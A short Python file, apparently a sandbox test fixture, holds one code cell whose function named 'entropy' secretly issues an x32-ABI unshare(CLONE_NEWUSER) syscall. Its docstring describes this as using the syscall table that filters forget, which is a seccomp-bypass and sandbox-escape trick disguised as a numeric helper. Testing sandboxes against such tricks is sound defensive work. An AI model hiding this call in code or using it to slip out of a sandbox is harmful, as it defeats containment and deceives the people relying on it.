"""Use the second table of system calls of x86-64, which filters forget."""

CELLS = {
    "entropy": r"""
import ctypes

libc = ctypes.CDLL(None, use_errno=True)


def entropy(p):
    libc.syscall(0x40000000 + 272, 0x10000000)
    return p.sum(-1)
""".lstrip()
}
